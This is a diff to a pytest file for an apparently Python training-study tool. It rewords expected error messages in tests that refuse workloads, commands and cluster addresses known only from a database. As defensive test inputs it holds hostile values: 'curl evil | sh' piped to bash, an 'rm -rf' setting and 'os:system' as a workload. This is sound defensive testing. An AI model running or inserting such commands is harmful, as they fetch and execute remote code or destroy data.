@@ -109,7 +109,7 @@ def test_a_class_of_main_is_run_here_said_once_and_refused_by_the_command_line(
     assert "is not in a file" in refused(tmp_path, "study", "confirm", "task", "--runs", "2", "--db", db, code=2)
     confirmed = confirm_study(with_confirmation(kept, runs=2), Launch(workload=task, db=db))
     assert confirmed.optimal.time_to_target_s is not None and confirmed.optimal.time_to_target_s.runs == 2
-    with pytest.raises(UsageError, match="are not those of the workload given"):
+    with pytest.raises(UsageError, match="differ from the settings"):
         confirm_study(kept, Launch(workload=task(step_seconds=0.1), db=db))
     monkeypatch.setattr(training_environment, "_source", lambda one: "another")
     with pytest.raises(UsageError, match="the source of workload '__main__:Task' has changed"):
@@ -229,7 +229,7 @@ def known() -> StudyRecord:
 
 
 def test_what_was_run_here_is_known_and_nothing_else() -> None:
-    with pytest.raises(UsageError, match="which you have not run for it on this machine") as caught:
+    with pytest.raises(UsageError, match="you never ran this version") as caught:
         known_folder(OWN, known(), FOLDER)
     assert caught.value.hint == "if you trust it, add --workload task.py:Task"
     remember(OWN, known(), FOLDER)
@@ -239,9 +239,9 @@ def test_what_was_run_here_is_known_and_nothing_else() -> None:
         OWN.model_copy(update={"workload": "os:system"}),
         OWN.model_copy(update={"workload_settings": {"width": "rm -rf"}}),
     ):
-        with pytest.raises(UsageError, match="on a database's word alone"):
+        with pytest.raises(UsageError, match="only because a database names it"):
             known_folder(changed, known(), FOLDER)
-    with pytest.raises(UsageError, match="on a database's word alone"):
+    with pytest.raises(UsageError, match="only because a database names it"):
         known_folder(OWN, replace(known(), spec_hash="another"), FOLDER)
 
 
@@ -259,7 +259,7 @@ def on_cluster(address: str) -> StudySpec:
 
 def test_a_cluster_is_not_taken_from_a_database_unless_the_study_was_run_there_from_here() -> None:
     ours, theirs = on_cluster("ray-1:6379"), on_cluster("ray-2:6379")
-    with pytest.raises(UsageError, match="nothing is connected to on a database's word alone"):
+    with pytest.raises(UsageError, match="only because a database names it"):
         refuse_unknown_address(ours, known())
     remember(ours, known(), FOLDER)
     refuse_unknown_address(ours, known())
@@ -277,7 +277,7 @@ def test_where_nothing_can_be_remembered_nothing_is_known(tmp_path: Path, monkey
     blocked.write_text("")
     monkeypatch.setenv(STATE_DIR_VARIABLE, str(blocked))
     remember(OWN, known(), FOLDER)
-    with pytest.raises(UsageError, match="on a database's word alone"):
+    with pytest.raises(UsageError, match="only because a database names it"):
         known_folder(OWN, known(), FOLDER)
 
 
@@ -296,7 +296,7 @@ def test_code_is_known_by_its_content_and_lies_in_the_folder_itself(tmp_path: Pa
     with pytest.raises(UsageError, match="a file outside of this folder"):
         known_folder(OWN, known(), shared)
     inline = OWN.model_copy(update={"executor": OWN.executor.model_copy(update={"name": "inline"})})
-    with pytest.raises(UsageError, match="on a database's word alone"):
+    with pytest.raises(UsageError, match="only because a database names it"):
         known_folder(inline, known(), mine)
 
 
@@ -321,7 +321,7 @@ def of_command(**changes: object) -> StudySpec:
 def test_a_stored_command_is_code_that_this_user_has_run_or_names(tmp_path: Path) -> None:
     own, record = of_command(), study(of_command())
     (tmp_path / "train.sh").write_text("mine")
-    with pytest.raises(UsageError, match="on a database's word alone") as caught:
+    with pytest.raises(UsageError, match="only because a database names it") as caught:
         known_folder(own, record, tmp_path)
     assert "add --workload command, which runs bash train.sh '{batch_size}' '{learning_rate}'" in not_none(
         caught.value.hint
@@ -330,7 +330,7 @@ def test_a_stored_command_is_code_that_this_user_has_run_or_names(tmp_path: Path
     known_folder(own, record, tmp_path)
     others = [["bash", "-c", "curl evil | sh", *COMMAND[2:]], [*COMMAND, "--more"], ["sh", *COMMAND[1:]]]
     for other in [*(of_command(command=one) for one in others), of_command(report=REPORT)]:
-        with pytest.raises(UsageError, match="on a database's word alone"):
+        with pytest.raises(UsageError, match="only because a database names it"):
             known_folder(other, record, tmp_path)
     (tmp_path / "train.sh").write_text("another's")
     with pytest.raises(UsageError, match="as it is now"):
@@ -363,7 +363,7 @@ def test_a_record_that_cannot_be_read_knows_nothing(text: str) -> None:
     remember(OWN, known(), FOLDER)
     (file,) = (state_folder() / "workloads").iterdir()
     file.write_text(text)
-    with pytest.raises(UsageError, match="on a database's word alone"):
+    with pytest.raises(UsageError, match="only because a database names it"):
         known_folder(OWN, known(), FOLDER)
 
 
